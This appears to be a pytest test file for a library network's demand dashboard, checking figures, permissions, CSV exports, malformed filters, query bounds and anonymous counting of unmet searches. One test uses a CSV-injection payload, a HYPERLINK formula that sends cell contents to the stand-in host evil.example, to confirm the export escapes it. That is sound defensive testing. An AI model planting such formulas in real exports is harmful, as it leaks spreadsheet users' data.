"""The demand dashboard: every figure against data built so that a wrong query miscounts,
the lists behind the figures, permissions, CSV exports, unmet searches counted by search
without the person, their retention, and a bounded number of queries."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from cms.models import HoldingStatus
from community import roles
from community.models import (
    EventRegistration,
    Interaction,
    Post,
    PurchaseSuggestion,
    SuggestionSupport,
)
from community.privacy.retention import run_retention
from community.reach import demand
from community.reach.models import UnmetSearch
from community.reach.unmet import record_search
from tests.cms.library_factories import make_event, make_item
from tests.conftest import make_community, make_interest, make_user

pytestmark = pytest.mark.django_db

AVAILABLE = HoldingStatus.AVAILABLE


@pytest.fixture
def world(taxonomy, branches):
    """Aubagne (A) is the librarian's; Arles (R) and the Alcazar (M) are not."""
    sf, manga = taxonomy["sf"], taxonomy["manga"]
    a, r = branches["aubagne"], branches["arles"]
    long_ago = timezone.now() - timedelta(days=200)

    m1 = make_user(home_branch=a, commune_name="Aubagne")
    m1.interests.set([sf, manga])
    m2 = make_user(home_branch=a, commune_name="Gémenos")
    m2.interests.set([sf])
    m3 = make_user(home_branch=r, commune_name="Arles")
    m3.interests.set([sf])
    gone = make_user(home_branch=a, is_active=False)
    gone.interests.set([sf])
    nowhere = make_user()  # no home branch: near no médiathèque
    nowhere.interests.set([sf])

    # held at A: i1 (sf, two copies), i3 (manga, old); withdrawn i4 does not count
    i1 = make_item("Dune", holdings=[(a, AVAILABLE), (a, AVAILABLE), (r, AVAILABLE)])
    i1.interests.set([sf])
    i1.save()  # a ParentalManyToManyField is written on save
    i2 = make_item("Hypérion", authors="Simmons, Dan", holdings=[(r, AVAILABLE)])
    i2.interests.set([sf])
    i2.save()  # a ParentalManyToManyField is written on save
    i3 = make_item("One Piece 1", holdings=[(a, AVAILABLE)])
    i3.interests.set([manga])
    i3.save()  # a ParentalManyToManyField is written on save
    i4 = make_item("Fondation", holdings=[(a, AVAILABLE)], withdrawn=True)
    i4.interests.set([sf])
    i4.save()  # a ParentalManyToManyField is written on save
    type(i3).objects.filter(pk=i3.pk).update(created_at=long_ago)

    # unmet searches: 2 at A (sf), 1 at A (manga, typed once), 1 at R, one too old
    record_search("Dune Messiah", 0, branch_ids=[a.pk], interest_ids=[sf.pk])
    record_search("dune messiah", 0, branch_ids=[a.pk], interest_ids=[sf.pk])
    record_search("Naruto 99", 0, branch_ids=[a.pk], interest_ids=[manga.pk])
    record_search("Ubik", 2, branch_ids=[r.pk], interest_ids=[sf.pk])
    UnmetSearch.objects.create(
        day=timezone.localdate() - timedelta(days=200),
        query="vieux",
        outcome="none",
        branch=a,
        interest=sf,
        count=5,
    )

    # events: e1 at A full with a waitlist; e2 at R with a waitlist; e3 at A, nothing
    e1 = make_event("Club SF", branch=a, interests=[sf], registration_required=True, capacity=1)
    e2 = make_event(
        "Club SF Arles", branch=r, interests=[sf], registration_required=True, capacity=1
    )
    make_event("Manga libre", branch=a, interests=[manga])
    confirmed, waitlisted = EventRegistration.Status.CONFIRMED, EventRegistration.Status.WAITLISTED
    EventRegistration.objects.create(event=e1, user=m1, status=confirmed)
    EventRegistration.objects.create(event=e1, user=m2, status=waitlisted)
    EventRegistration.objects.create(event=e2, user=m1, status=confirmed)
    EventRegistration.objects.create(event=e2, user=m3, status=waitlisted)

    # suggestions: s1 (A) two supports; s2 (R) one; s3 (A) refused
    s1 = PurchaseSuggestion.objects.create(title="La Horde du Contrevent", suggested_by=m1)
    s2 = PurchaseSuggestion.objects.create(title="Les Furtifs", suggested_by=m3)
    s3 = PurchaseSuggestion.objects.create(
        title="Spam", suggested_by=m2, status=PurchaseSuggestion.Status.REFUSED
    )
    for suggestion, branch, supporters in ((s1, a, [m1, m2]), (s2, r, [m3]), (s3, a, [m2])):
        suggestion.interests.set([sf])
        suggestion.branches.set([branch])
        for user in supporters:
            SuggestionSupport.objects.create(suggestion=suggestion, user=user)

    # wanted elsewhere: m1 twice and m2 on i2 (not at A); m1 on i1 (held at A) does not count
    click = Interaction.Kind.RESERVATION_CLICK
    Interaction.objects.create(member=m1, item=i2, kind=click)
    Interaction.objects.create(member=m1, item=i2, kind=Interaction.Kind.LIKE)
    Interaction.objects.create(member=m2, item=i2, kind=click)
    Interaction.objects.create(member=m1, item=i1, kind=click)
    Interaction.objects.create(member=m3, item=i1, kind=click)  # R member, i1 held at R

    # trending: c1 (A) two posts on i2; c2 (R) one on i1; c3 (network) one on i3
    c1 = make_community("SF Aubagne", interests=[sf], branches=[a])
    c2 = make_community("SF Arles", interests=[sf], branches=[r])
    c3 = make_community("Manga", interests=[manga])
    Post.objects.create(community=c1, author=m1, body="Lisez-le", catalogue_item=i2)
    Post.objects.create(community=c1, author=m2, body="Oui !", catalogue_item=i2)
    Post.objects.create(community=c2, author=m3, body="Classique", catalogue_item=i1)
    Post.objects.create(community=c3, author=m1, body="Le début", catalogue_item=i3)

    librarian = make_user(groups=[roles.LIBRARIANS])
    a.librarians.add(librarian)
    return {
        "a": a,
        "r": r,
        "sf": sf,
        "manga": manga,
        "librarian": librarian,
        "items": (i1, i2, i3, i4),
        "events": (e1, e2),
        "suggestions": (s1, s2, s3),
    }


def rows_by_label(summary):
    return {row["label"]: row for row in summary["rows"]}


def filters_for(user, **params):
    return demand.Filters.from_query(params, user)


def test_the_librarian_sees_the_figures_of_their_branch(world):
    summary = demand.summary(filters_for(world["librarian"]))
    rows = rows_by_label(summary)
    sf = rows["Imaginaire › Science-fiction"]
    assert sf["followers"] == 2  # m1, m2: not m3 (Arles), not the inactive one
    assert sf["held"] == 1  # Dune: two copies, one item; Fondation withdrawn
    assert sf["per_follower"] == 0.5
    assert sf["acquisitions"] == 1
    assert sf["searches"] == 2  # the Arles search and the one 200 days ago excluded
    assert sf["waitlisted"] == 1
    assert sf["full_events"] == 1
    assert sf["supports"] == 2  # refused s3 and Arles' s2 excluded
    assert sf["elsewhere"] == 2  # m1 and m2 on Hypérion; not Dune (held at Aubagne)
    assert sf["trending"] == 2  # c1's two posts; not c2 (Arles)
    manga = rows["BD › Manga"]
    assert (manga["followers"], manga["held"], manga["acquisitions"]) == (1, 1, 0)
    assert (manga["searches"], manga["waitlisted"], manga["full_events"]) == (1, 0, 0)
    assert manga["trending"] == 1  # the network-wide community counts for every branch
    assert summary["totals"] == {
        "searches": 3,
        "held": 2,
        "acquisitions": 1,
        "waitlisted": 1,
        "full_events": 1,
    }


def test_a_network_admin_sees_every_branch(world, network_admin):
    sf = rows_by_label(demand.summary(filters_for(network_admin)))["Imaginaire › Science-fiction"]
    assert sf["followers"] == 3
    assert sf["held"] == 2  # Dune and Hypérion
    assert sf["searches"] == 3
    assert sf["waitlisted"] == 2
    assert sf["full_events"] == 2
    assert sf["supports"] == 3
    assert sf["trending"] == 3
    # m3 (Arles) clicking Dune, which Arles holds, is not "wanted elsewhere"
    assert sf["elsewhere"] == 2


def test_filters_by_branch_interest_and_period(world, network_admin):
    arles = filters_for(network_admin, branch=str(world["r"].pk))
    sf = rows_by_label(demand.summary(arles))["Imaginaire › Science-fiction"]
    assert (sf["followers"], sf["held"], sf["searches"], sf["supports"]) == (1, 2, 1, 1)
    only_bd = filters_for(world["librarian"], interest=str(world["manga"].parent_id))
    assert set(rows_by_label(demand.summary(only_bd))) == {"BD › Manga"}
    old = timezone.localdate() - timedelta(days=250)
    past = filters_for(
        world["librarian"],
        start=old.isoformat(),
        end=(old + timedelta(days=100)).isoformat(),
    )
    rows = rows_by_label(demand.summary(past))
    assert rows["Imaginaire › Science-fiction"]["searches"] == 5
    assert rows["Imaginaire › Science-fiction"]["acquisitions"] == 0
    assert rows["BD › Manga"]["acquisitions"] == 1  # One Piece entered 200 days ago


def test_the_lists_behind_the_figures(world):
    f = filters_for(world["librarian"], interest=str(world["sf"].pk))
    assert [(r["title"], r["copies"]) for r in demand.items_list(f)] == [("Dune", 2)]
    searches = demand.searches_list(filters_for(world["librarian"]))
    assert [(r["query"], r["count"]) for r in searches["rows"]] == [("dune messiah", 2)]
    assert searches["hidden"] == 1  # "naruto 99", typed once: counted, not shown
    waitlists = demand.waitlists_list(f)
    assert [(r["title"], r["confirmed"], r["waitlisted"], r["full"]) for r in waitlists] == [
        ("Club SF", 1, 1, True)
    ]
    assert [(r["title"], r["count"]) for r in demand.suggestions_list(f)] == [
        ("La Horde du Contrevent", 2)
    ]
    assert [(r["title"], r["count"], r["copies"]) for r in demand.elsewhere_list(f)] == [
        ("Hypérion", 2, 1)
    ]
    assert [(r["title"], r["posts"], r["copies"]) for r in demand.trending_list(f)] == [
        ("Hypérion", 2, 0)
    ]
    communes = {r["commune"]: r["count"] for r in demand.followers_list(f)}
    assert communes == {"Aubagne": 1, "Gémenos": 1}


def test_the_dashboard_page_links_each_figure_to_its_list(client, world):
    client.force_login(world["librarian"])
    response = client.get(reverse("reach_demand"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Imaginaire › Science-fiction" in html
    held_url = reverse("reach_demand_list", args=["held"])
    assert f'href="{held_url}?' in html
    assert f"interest={world['sf'].pk}" in html
    response = client.get(held_url, {"interest": world["sf"].pk})
    assert response.status_code == 200
    assert "Dune" in response.content.decode()
    assert "Hypérion" not in response.content.decode()
    response = client.get(reverse("reach_demand_list", args=["searches"]))
    assert "dune messiah" in response.content.decode()
    assert "naruto" not in response.content.decode()
    assert client.get(reverse("reach_demand_list", args=["nope"])).status_code == 404


def test_the_menu_entry_is_shown_to_library_staff_only(client, world, member):
    from django.test import RequestFactory
    from wagtail.admin.menu import admin_menu

    request = RequestFactory().get("/admin/")
    request.user = world["librarian"]
    names = [item.name for item in admin_menu.menu_items_for_request(request)]
    assert "demande" in names


def test_permissions(client, world, member, network_admin):
    url = reverse("reach_demand")
    anonymous = client.get(url)
    assert anonymous.status_code == 302 and "login" in anonymous["Location"]
    client.force_login(member)
    assert client.get(url).status_code in (302, 403)
    assert client.get(reverse("reach_demand_csv")).status_code in (302, 403)
    client.force_login(world["librarian"])
    refused = client.get(url, {"branch": world["r"].pk})
    assert refused.status_code == 403
    assert "Vous ne travaillez pas pour cette médiathèque" in refused.content.decode()
    other = reverse("reach_demand_list", args=["held"])
    assert client.get(other, {"branch": world["r"].pk}).status_code == 403
    assert client.get(reverse("reach_demand_csv"), {"branch": world["r"].pk}).status_code == 403
    page = client.get(url).content.decode()
    assert world["r"].name not in page  # not offered in the branch filter either
    client.force_login(network_admin)
    assert client.get(url, {"branch": world["r"].pk}).status_code == 200


def test_bad_filters_are_reported_not_fatal(client, world):
    client.force_login(world["librarian"])
    response = client.get(reverse("reach_demand"), {"start": "hier", "interest": "x"})
    assert response.status_code == 200
    html = response.content.decode()
    assert "hier" in html and "x" in html


@pytest.mark.parametrize(
    "params",
    [
        {"end": "9999-12-31"},
        {"start": "0001-01-01"},
        {"branch": "9223372036854775808"},
        {"interest": "9223372036854775808"},
        {"start": "2026-02-30"},
    ],
)
def test_hostile_filters_never_crash(client, world, network_admin, params):
    client.raise_request_exception = False
    client.force_login(network_admin)
    for url in (
        reverse("reach_demand"),
        reverse("reach_demand_csv"),
        reverse("reach_demand_list", args=["waitlists"]),
        reverse("reach_funnel"),
    ):
        assert client.get(url, params).status_code == 200, url


def test_librarian_without_branch_sees_nothing(client, world):
    lonely = make_user(groups=[roles.LIBRARIANS])
    assert demand.summary(filters_for(lonely))["rows"] == []


def parse_csv(response):
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def test_csv_exports(client, world):
    client.force_login(world["librarian"])
    rows = parse_csv(client.get(reverse("reach_demand_csv")))
    header, body = rows[0], {row[0]: row for row in rows[1:]}
    assert header[0] == "Centre d’intérêt"
    sf = body["Imaginaire › Science-fiction"]
    assert sf[1:] == ["2", "1", "0,5", "1", "2", "1", "1", "2", "2", "2"]
    rows = parse_csv(
        client.get(
            reverse("reach_demand_list_csv", args=["elsewhere"]), {"interest": world["sf"].pk}
        )
    )
    assert rows[1] == ["Hypérion", "Simmons, Dan", "2", "1"]


def test_csv_exports_never_hand_a_formula_to_the_spreadsheet(client, world):
    """A member typed the suggestion's title: a cell Excel would run as a formula (CSV
    injection) is written as text, with a leading apostrophe."""
    from community.models import PurchaseSuggestion

    title = '=HYPERLINK("https://evil.example/?"&A1;"Voir")'
    PurchaseSuggestion.objects.filter(title="La Horde du Contrevent").update(
        title=title, author="@SUM(1+1)"
    )
    client.force_login(world["librarian"])
    rows = parse_csv(client.get(reverse("reach_demand_list_csv", args=["suggestions"])))
    [row] = [row for row in rows[1:] if "HYPERLINK" in row[0]]
    assert row[0] == "'" + title and row[1] == "'@SUM(1+1)"


def count_queries(client, url) -> int:
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as context:
        assert client.get(url).status_code == 200
    return len(context.captured_queries)


def test_queries_do_not_grow_with_the_data(client, world, django_assert_max_num_queries):
    client.force_login(world["librarian"])
    urls = [reverse("reach_demand")] + [
        reverse("reach_demand_list", args=[n]) for n in demand.LISTS
    ]
    client.get(urls[0])  # warm the caches (site, settings)
    before = [count_queries(client, url) for url in urls]
    # more of everything: interests, followers, items, searches, events, posts
    a, sf = world["a"], world["sf"]
    club = make_community("Encore", interests=[sf], branches=[a])
    for n in range(4):
        extra = make_interest(f"Sujet {n}", world["manga"].parent)
        member = make_user(home_branch=a, commune_name=f"Commune {n}")
        member.interests.set([extra, sf])
        item = make_item(f"Livre {n}", holdings=[(a, AVAILABLE)])
        item.interests.set([extra])
        item.save()
        other = make_item(f"Ailleurs {n}", holdings=[(world["r"], AVAILABLE)])
        other.interests.set([extra])
        other.save()
        Interaction.objects.create(member=member, item=other, kind=Interaction.Kind.LIKE)
        Post.objects.create(community=club, author=member, body="!", catalogue_item=other)
        record_search(f"absent {n}", 0, branch_ids=[a.pk], interest_ids=[extra.pk])
        record_search(f"absent {n}", 0, branch_ids=[a.pk], interest_ids=[extra.pk])
        event = make_event(
            f"Atelier {n}", branch=a, interests=[extra], registration_required=True, capacity=1
        )
        EventRegistration.objects.create(event=event, user=member, status="confirmed")
    after = [count_queries(client, url) for url in urls]
    assert after == before
    with django_assert_max_num_queries(40):  # Wagtail's admin frame included
        client.get(urls[0])


# --- Counting unmet searches in search ------------------------------------------------------


def test_search_counts_unmet_searches_without_the_person(client, taxonomy, branches):
    member = make_user(home_branch=branches["aubagne"])
    member.interests.set([taxonomy["sf"]])
    client.force_login(member)
    assert client.get("/recherche/", {"q": "Zyxwvut Étoilé"}).status_code == 200
    assert client.get("/recherche/", {"q": "Zyxwvut Étoilé", "page": "2"}).status_code in (
        200,
        400,
    )
    client.logout()
    assert client.get("/api/recherche/", {"q": "zyxwvut etoile"}).status_code == 200
    rows = {
        (r.query, r.outcome, r.branch_id, r.interest_id): r.count for r in UnmetSearch.objects.all()
    }
    aubagne, sf = branches["aubagne"].pk, taxonomy["sf"].pk
    assert rows == {
        ("zyxwvut etoile", "none", aubagne, None): 1,
        ("zyxwvut etoile", "none", aubagne, sf): 1,
        ("zyxwvut etoile", "none", None, None): 1,  # the anonymous API call
    }
    fields = {f.name for f in UnmetSearch._meta.get_fields()}
    assert not fields & {"user", "session", "ip", "member"}


def test_only_no_or_few_results_are_counted(db):
    assert record_search("dune", 4) is False
    assert record_search("dune", 3) is True
    assert record_search("   ", 0) is False
    assert UnmetSearch.objects.get().outcome == "few"


def test_retention_deletes_old_counts(db, settings):
    settings.UNMET_SEARCH_RETENTION_DAYS = 30
    today = timezone.localdate()
    UnmetSearch.objects.create(day=today - timedelta(days=31), query="a", outcome="none", count=1)
    UnmetSearch.objects.create(day=today - timedelta(days=29), query="b", outcome="none", count=1)
    log = run_retention(force=True)
    assert log.unmet_searches_deleted == 1
    assert list(UnmetSearch.objects.values_list("query", flat=True)) == ["b"]
